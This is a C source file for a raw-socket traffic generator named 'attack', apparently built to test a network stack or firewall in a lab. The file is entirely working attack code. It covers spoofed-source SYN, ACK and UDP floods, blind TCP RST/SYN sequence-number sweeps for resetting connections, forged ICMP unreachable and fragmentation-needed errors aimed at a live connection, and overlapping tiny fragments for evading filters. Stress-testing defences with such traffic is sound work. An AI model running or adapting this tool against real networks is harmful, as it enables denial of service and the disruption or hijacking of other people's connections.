/*
 * Attacks, for the lab: packets that no honest host sends, as fast as is asked, out of one interface to the gateway behind it.
 *
 *   attack INTERFACE GATEWAY-MAC RATE WHAT ...
 *     syn COUNT DST PORT                     SYNs from spoofed sources (10.0.0.0/8)
 *     ack COUNT DST                          segments of no connection, from spoofed sources to any port
 *     udp COUNT DST PORT                     datagrams from spoofed sources
 *     sweep FLAGS STEP SRC SPORT DST DPORT   a blind segment each STEP sequence numbers, over all of them: R or S
 *     icmp STEP SRC SPORT DST DPORT          errors (unreachable, too big) that quote the connection with any number, to SRC
 *     fragments COUNT SRC DST PORT           tiny first fragments, and ones that overlap what came before
 *     source COUNT SRC DST PORT              SYNs from SRC, from one port after the other
 *
 * Sends RATE packets a second, in bursts of a millisecond. Prints how many it has sent.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#include "packet/packet.h"
#include "tests/unit/build.h"

struct sender {
    int fd;
    struct sockaddr_ll to;
    unsigned rate;
    struct timespec started;
    unsigned long sent;
};

static uint64_t seed = 88172645463325252ULL;

static uint32_t draw(void)
{
    seed ^= seed << 13;
    seed ^= seed >> 7;
    seed ^= seed << 17;
    return (uint32_t)(seed >> 32);
}

static void wait_for_turn(const struct sender *sender)
{
    struct timespec due = sender->started;
    uint64_t ns = (uint64_t)sender->sent * 1000000000 / sender->rate;
    ns -= ns % 1000000;
    due.tv_sec += (time_t)(ns / 1000000000);
    due.tv_nsec += (long)(ns % 1000000000);
    if (due.tv_nsec >= 1000000000) {
        due.tv_nsec -= 1000000000;
        due.tv_sec++;
    }
    clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &due, NULL);
}

static void send_packet(struct sender *sender, const struct build *build)
{
    static uint8_t bytes[BUILD_BYTES_MAX];
    size_t length = build_packet(build, bytes);
    wait_for_turn(sender);
    if (sendto(sender->fd, bytes, length, 0, (const struct sockaddr *)&sender->to, sizeof sender->to) < 0) {
        perror("send");
        exit(1);
    }
    sender->sent++;
}

static const char *spoofed(void)
{
    static char text[32];
    uint32_t address = 0x0a000000 | (draw() & 0x00ffffff);
    snprintf(text, sizeof text, "%u.%u.%u.%u", address >> 24, address >> 16 & 255, address >> 8 & 255, address & 255);
    return text;
}

static void syn(struct sender *sender, unsigned long count, const char *src, const char *dst, uint16_t port)
{
    for (unsigned long i = 0; i < count; i++) {
        struct build build = {
            .src = src != NULL ? src : spoofed(),
            .dst = dst,
            .protocol = PROTOCOL_TCP,
            .src_port = (uint16_t)(src != NULL ? 20000 + i % 40000 : draw()),
            .dst_port = port,
            .flags = TCP_SYN,
            .seq = draw(),
            .window = 65535,
        };
        send_packet(sender, &build);
    }
}

static void ack(struct sender *sender, unsigned long count, const char *dst)
{
    static const uint8_t flags[] = {TCP_ACK, TCP_ACK | TCP_PSH, TCP_ACK | TCP_FIN, TCP_RST, TCP_SYN | TCP_ACK};
    for (unsigned long i = 0; i < count; i++) {
        struct build build = {
            .src = spoofed(),
            .dst = dst,
            .protocol = PROTOCOL_TCP,
            .src_port = (uint16_t)draw(),
            .dst_port = (uint16_t)draw(),
            .flags = flags[i % sizeof flags],
            .seq = draw(),
            .ack = draw(),
            .window = 65535,
        };
        send_packet(sender, &build);
    }
}

static void udp(struct sender *sender, unsigned long count, const char *dst, uint16_t port)
{
    for (unsigned long i = 0; i < count; i++) {
        struct build build = {.src = spoofed(), .dst = dst, .protocol = PROTOCOL_UDP, .src_port = (uint16_t)draw(),
                              .dst_port = port, .payload = BYTES("flood")};
        send_packet(sender, &build);
    }
}

static struct build connection_of(char **argv)
{
    return (struct build){
        .src = argv[0],
        .src_port = (uint16_t)strtoul(argv[1], NULL, 10),
        .dst = argv[2],
        .dst_port = (uint16_t)strtoul(argv[3], NULL, 10),
        .protocol = PROTOCOL_TCP,
        .window = 1024,
    };
}

static void sweep(struct sender *sender, uint8_t flags, uint32_t step, char **endpoints)
{
    const struct build connection = connection_of(endpoints);
    for (uint64_t seq = 0; seq <= UINT32_MAX; seq += step) {
        struct build build = connection;
        build.flags = flags;
        build.seq = (uint32_t)seq;
        send_packet(sender, &build);
    }
}

/* To the connection's opener, as if about what he has sent: it quotes his packet, with any number. */
static void icmp(struct sender *sender, uint32_t step, char **endpoints)
{
    const struct build connection = connection_of(endpoints);
    static uint8_t quoted[BUILD_BYTES_MAX];
    for (uint64_t seq = 0, i = 0; seq <= UINT32_MAX; seq += step, i++) {
        struct build inner = connection;
        inner.flags = TCP_ACK;
        inner.seq = (uint32_t)seq;
        build_packet(&inner, quoted);
        struct build build = {
            .src = connection.dst,
            .dst = connection.src,
            .protocol = PROTOCOL_ICMP,
            .type = 3,
            .code = i % 2 == 0 ? 1 : 4, /* host unreachable; fragmentation needed */
            .number = 296,
            .payload = {quoted, 28},
        };
        send_packet(sender, &build);
    }
}

static void fragments(struct sender *sender, unsigned long count, const char *src, const char *dst, uint16_t port)
{
    for (unsigned long i = 0; i < count; i += 3) {
        /* A TCP header cut behind its ports; then two pieces that overlap with other bytes. */
        struct build first = {.src = src, .dst = dst, .protocol = 6, .payload = {NULL, 8},
                              .patches = {{4, 2, (uint16_t)i}, {6, 2, 0x2000}}};
        struct build second = {.src = src, .dst = dst, .protocol = 6, .payload = BYTES("0123456789abcdef01234567"),
                               .patches = {{4, 2, (uint16_t)i}, {6, 2, 0x2001}}};
        struct build third = {.src = src, .dst = dst, .protocol = 6, .payload = BYTES("OTHERBYTESOTHERBYTES"),
                              .patches = {{4, 2, (uint16_t)i}, {6, 2, 0x0002}}};
        const uint8_t ports[8] = {0x12, 0x34, (uint8_t)(port >> 8), (uint8_t)port, 0, 0, 0, 1};
        first.payload.at = ports;
        send_packet(sender, &first);
        send_packet(sender, &second);
        send_packet(sender, &third);
    }
}

static bool open_sender(struct sender *sender, const char *interface, const char *mac, const char *rate)
{
    unsigned octets[6];
    sender->fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETHERTYPE_IP));
    sender->to = (struct sockaddr_ll){
        .sll_family = AF_PACKET,
        .sll_protocol = htons(ETHERTYPE_IP),
        .sll_ifindex = (int)if_nametoindex(interface),
        .sll_halen = 6,
    };
    if (sscanf(mac, "%x:%x:%x:%x:%x:%x", &octets[0], &octets[1], &octets[2], &octets[3], &octets[4], &octets[5]) != 6)
        return false;
    for (unsigned i = 0; i < 6; i++)
        sender->to.sll_addr[i] = (uint8_t)octets[i];
    sender->rate = (unsigned)strtoul(rate, NULL, 10);
    clock_gettime(CLOCK_MONOTONIC, &sender->started);
    return sender->fd >= 0 && sender->to.sll_ifindex != 0 && sender->rate > 0;
}

static bool attack(struct sender *sender, int argc, char **argv)
{
    const char *what = argv[0];
    unsigned long number = strtoul(argv[1], NULL, 10);
    if (strcmp(what, "syn") == 0 && argc == 4)
        syn(sender, number, NULL, argv[2], (uint16_t)strtoul(argv[3], NULL, 10));
    else if (strcmp(what, "source") == 0 && argc == 5)
        syn(sender, number, argv[2], argv[3], (uint16_t)strtoul(argv[4], NULL, 10));
    else if (strcmp(what, "ack") == 0 && argc == 3)
        ack(sender, number, argv[2]);
    else if (strcmp(what, "udp") == 0 && argc == 4)
        udp(sender, number, argv[2], (uint16_t)strtoul(argv[3], NULL, 10));
    else if (strcmp(what, "fragments") == 0 && argc == 5)
        fragments(sender, number, argv[2], argv[3], (uint16_t)strtoul(argv[4], NULL, 10));
    else if (strcmp(what, "icmp") == 0 && argc == 6)
        icmp(sender, (uint32_t)number, argv + 2);
    else if (strcmp(what, "sweep") == 0 && argc == 7)
        sweep(sender, argv[1][0] == 'R' ? TCP_RST : TCP_SYN, (uint32_t)strtoul(argv[2], NULL, 10), argv + 3);
    else
        return false;
    return true;
}

int main(int argc, char **argv)
{
    struct sender sender = {.fd = -1};
    if (argc < 7 || !open_sender(&sender, argv[1], argv[2], argv[3])) {
        fprintf(stderr, "usage: attack INTERFACE GATEWAY-MAC RATE WHAT ...\n");
        return 2;
    }
    if (!attack(&sender, argc - 4, argv + 4)) {
        fprintf(stderr, "attack: '%s' is none, or its arguments are wrong\n", argv[4]);
        return 2;
    }
    printf("%lu\n", sender.sent);
    return 0;
}
